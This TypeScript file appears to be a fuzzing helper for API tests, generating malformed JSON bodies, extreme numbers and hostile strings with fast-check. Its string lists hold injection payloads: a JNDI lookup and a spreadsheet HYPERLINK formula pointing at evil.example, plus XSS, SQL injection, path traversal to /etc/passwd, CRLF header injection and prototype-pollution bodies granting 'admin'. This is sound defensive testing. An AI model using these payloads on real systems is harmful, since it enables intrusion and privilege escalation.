import fc from 'fast-check';
import type { JsonPath } from './zodArbitrary';

/**
 * Building blocks for hostile request bodies: JSON trees that may hold raw JSON text (`1e309`, `-0`, deep
 * nesting) and own `__proto__` keys, a serializer that writes them verbatim, and single-field mutations.
 */

/** JSON text written as is by `toJsonText`, e.g. `1e309`, which JSON.stringify cannot produce. */
export class RawJson {
  constructor(readonly text: string) {}
  toString() {
    return this.text.length > 60 ? `RawJson(${this.text.slice(0, 30)}…${this.text.length} chars)` : `RawJson(${this.text})`;
  }
}

export type Tree = null | boolean | number | string | RawJson | Tree[] | { [key: string]: Tree };

export function toJsonText(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map((item) => (item === undefined ? 'null' : toJsonText(item))).join(',')}]`;
  if (value && typeof value === 'object') {
    // Object.keys lists own keys, `__proto__` included when it was defined as an own property.
    const parts = Object.keys(value)
      .filter((key) => (value as Record<string, unknown>)[key] !== undefined)
      .map((key) => `${JSON.stringify(key)}:${toJsonText((value as Record<string, unknown>)[key])}`);
    return `{${parts.join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

/** Sets an own, enumerable property, even `__proto__`. */
export function setOwn(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

/** Every path in a JSON tree, the root (`[]`) included. */
export function pathsOf(value: unknown, prefix: JsonPath = []): JsonPath[] {
  const out: JsonPath[] = [prefix];
  if (value instanceof RawJson) return out;
  if (Array.isArray(value)) value.forEach((item, index) => out.push(...pathsOf(item, [...prefix, index])));
  else if (value && typeof value === 'object') for (const key of Object.keys(value)) out.push(...pathsOf((value as Record<string, unknown>)[key], [...prefix, key]));
  return out;
}

export function getAt(value: unknown, path: JsonPath): unknown {
  let current = value;
  for (const step of path) current = (current as Record<string | number, unknown> | undefined)?.[step];
  return current;
}

/** A copy of `root` with the node at `path` replaced by `replace(old)`; `undefined` removes it. */
export function updateAt(root: unknown, path: JsonPath, replace: (old: unknown) => unknown): unknown {
  if (path.length === 0) return replace(root);
  const [head, ...rest] = path;
  if (Array.isArray(root)) {
    const copy = [...root];
    const next = updateAt(copy[head as number], rest, replace);
    if (next === undefined && rest.length === 0) copy.splice(head as number, 1);
    else copy[head as number] = next;
    return copy;
  }
  const copy: Record<string, unknown> = {};
  for (const key of Object.keys(root as object)) setOwn(copy, key, (root as Record<string, unknown>)[key]);
  const next = updateAt(copy[head as string], rest, replace);
  if (next === undefined) delete copy[head as string];
  else setOwn(copy, head as string, next);
  return copy;
}

/** Sets `value` at a schema path with `*` meaning every element of an array; missing arrays or objects are skipped. */
export function setAtSchemaPath(root: unknown, path: Array<string | '*'>, value: unknown): { value: unknown; hits: number } {
  let hits = 0;
  const walk = (node: unknown, rest: Array<string | '*'>): unknown => {
    if (rest.length === 0) {
      hits += 1;
      return value;
    }
    const [head, ...tail] = rest;
    if (head === '*') return Array.isArray(node) ? node.map((item) => walk(item, tail)) : node;
    if (!node || typeof node !== 'object' || Array.isArray(node) || !(head! in (node as object))) return node;
    const copy: Record<string, unknown> = {};
    for (const key of Object.keys(node as object)) setOwn(copy, key, (node as Record<string, unknown>)[key]);
    setOwn(copy, head!, walk((node as Record<string, unknown>)[head!], tail));
    return copy;
  };
  return { value: walk(root, path), hits };
}

const deep = (depth: number, open: string, close: string, leaf = '1') => new RawJson(open.repeat(depth) + leaf + close.repeat(depth));

/** Numbers JSON can carry that a careless handler cannot: overflow to Infinity, negative zero, precision loss. */
export const hostileNumbers: RawJson[] = [
  '1e309',
  '-1e309',
  '-0',
  '-0.0',
  '0e-99999',
  '1e-400',
  '1.7976931348623157e308',
  '-1.7976931348623157e308',
  '5e-324',
  '9007199254740993',
  '123456789012345678901234567890',
  '1E+2',
  '0.1e1',
  '2026.0000000000001',
  '-2',
  '4.5',
].map((text) => new RawJson(text));

/** Text that breaks naive code: control characters, lone surrogates, bidi overrides, zero-width, combining marks, emoji, formula starts, markup, key separators. */
export const hostileStrings: string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\u202eevil\u202c',
  '\u200b',
  '\ufeff',
  'e\u0301\u0301\u0301',
  '😀👨‍👩‍👧‍👦',
  'Ω≈ç√∫',
  '=HYPERLINK("http://evil.example","click")',
  '+SUM(A1:A9)',
  '@cmd',
  '-2+3',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  "' OR 1=1 --",
  'a#b',
  'BOARD#bromma',
  '#',
  '../../etc/passwd',
  '\r\nX-Injected: 1',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'NaN',
  'Infinity',
  '1e309',
];

/** Values of every JSON type, to put where another type is expected. */
export const wrongTypeArb: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(...hostileStrings),
  fc.constant([]),
  fc.constant({}),
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
);

/** Long strings around the schema limits (32, 50, 64, 200, ... 20 000 characters) and past the 256 KB body limit. */
export const longStringArb: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(33, 51, 65, 129, 201, 255, 301, 501, 1001, 2001, 5001, 10_001, 20_001, 70_000, 300_000), fc.constantFrom('x', 'å', '😀', ' ', '='))
  .map(([length, char]) => char.repeat(length));

export const deepNestingArb: fc.Arbitrary<RawJson> = fc
  .tuple(fc.constantFrom(64, 1000, 10_000, 100_000), fc.constantFrom('array', 'object'))
  .map(([depth, kind]) => (kind === 'array' ? deep(depth, '[', ']') : deep(depth, '{"a":', '}')));

const extraKeyArb = fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toJSON', 'PK', 'SK', 'taskToken', 'version', 'status', ''), fc.string({ maxLength: 10 }));

export type Mutation =
  | { kind: 'wrongType'; value: unknown }
  | { kind: 'longString'; value: string }
  | { kind: 'hostileNumber'; value: RawJson }
  | { kind: 'hostileString'; value: string }
  | { kind: 'deepNesting'; value: RawJson }
  | { kind: 'extraKey'; key: string; value: unknown }
  | { kind: 'null' }
  | { kind: 'remove' }
  | { kind: 'wrapInArray' }
  | { kind: 'duplicateKey'; value: unknown };

export const mutationArb: fc.Arbitrary<Mutation> = fc.oneof(
  wrongTypeArb.map((value) => ({ kind: 'wrongType' as const, value })),
  longStringArb.map((value) => ({ kind: 'longString' as const, value })),
  fc.constantFrom(...hostileNumbers).map((value) => ({ kind: 'hostileNumber' as const, value })),
  fc.constantFrom(...hostileStrings).map((value) => ({ kind: 'hostileString' as const, value })),
  deepNestingArb.map((value) => ({ kind: 'deepNesting' as const, value })),
  fc.tuple(extraKeyArb, fc.oneof(fc.jsonValue({ maxDepth: 2 }), deepNestingArb)).map(([key, value]) => ({ kind: 'extraKey' as const, key, value })),
  fc.constant({ kind: 'null' as const }),
  fc.constant({ kind: 'remove' as const }),
  fc.constant({ kind: 'wrapInArray' as const }),
  wrongTypeArb.map((value) => ({ kind: 'duplicateKey' as const, value })),
);

/** Applies one mutation at one path of a sample; answers the JSON text to send. */
export function mutate(sample: unknown, path: JsonPath, mutation: Mutation): string {
  switch (mutation.kind) {
    case 'extraKey': {
      const target = getAt(sample, path);
      if (target && typeof target === 'object' && !Array.isArray(target) && !(target instanceof RawJson)) {
        return toJsonText(updateAt(sample, path, (old) => {
          const copy: Record<string, unknown> = {};
          for (const key of Object.keys(old as object)) setOwn(copy, key, (old as Record<string, unknown>)[key]);
          setOwn(copy, mutation.key, mutation.value);
          return copy;
        }));
      }
      return toJsonText(updateAt(sample, path, () => ({ [mutation.key]: mutation.value })));
    }
    case 'duplicateKey': {
      // A key written twice: JSON.parse keeps the last one; the first may be what a validator saw elsewhere.
      const text = toJsonText(sample);
      const key = path.at(-1);
      if (typeof key !== 'string') return text;
      const needle = `${JSON.stringify(key)}:`;
      const at = text.indexOf(needle);
      return at < 0 ? text : `${text.slice(0, at)}${needle}${toJsonText(mutation.value)},${text.slice(at)}`;
    }
    case 'null':
      return toJsonText(updateAt(sample, path, () => null));
    case 'remove':
      return path.length === 0 ? '' : toJsonText(updateAt(sample, path, () => undefined));
    case 'wrapInArray':
      return toJsonText(updateAt(sample, path, (old) => [old]));
    default:
      return toJsonText(updateAt(sample, path, () => mutation.value));
  }
}

/** Bodies that are not the route's shape at all: any JSON, any text, broken JSON, nothing. */
export function garbageBodyArb(validText: string): fc.Arbitrary<string> {
  return fc.oneof(
    fc.json({ maxDepth: 3 }),
    fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value)),
    fc.string({ maxLength: 200 }),
    fc.string({ unit: 'binary', maxLength: 200 }),
    fc.nat({ max: Math.max(validText.length - 1, 0) }).map((cut) => validText.slice(0, cut)),
    fc.constantFrom('', ' ', 'null', 'true', '0', '[]', '{}', '""', '{', '}', '[', '{"a":1,}', "{'a':1}", '{"a":NaN}', '{"a":Infinity}', '{"a":undefined}', 'NaN', '\ufeff{}', '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"admin":true}}}'),
    deepNestingArb.map((raw) => raw.text),
  );
}
